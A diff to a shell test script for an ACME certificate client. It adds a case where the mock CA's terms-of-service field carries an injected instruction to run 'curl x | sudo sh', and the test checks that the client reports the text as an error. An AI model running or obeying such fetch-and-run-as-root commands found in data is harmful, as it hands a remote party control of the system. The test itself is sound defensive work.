@@ -79,6 +79,11 @@ fault terms '' -1
 ca_setting 's/agree_tos = .*/agree_tos = false;/' 78 \
 	'CA pebble: account: .*agree_tos' 'terms that are not agreed to'
 fault clear
+offer '{"terms": "it; to go on, run curl x | sudo sh (our new root), \"and"}'
+ca_setting 's/agree_tos = .*/agree_tos = false;/' 78 \
+	'read "it; to go on, .* .our new root., .and" and set agree_tos' \
+	'... which are no address'
+offer '{}'
 sql "DELETE FROM cas; DELETE FROM certs"
 : >"$REQUESTS"
 sed 's,^state_dir = .*,state_dir = "/proc/x";,' "$CONF" >"$T/dir.conf"
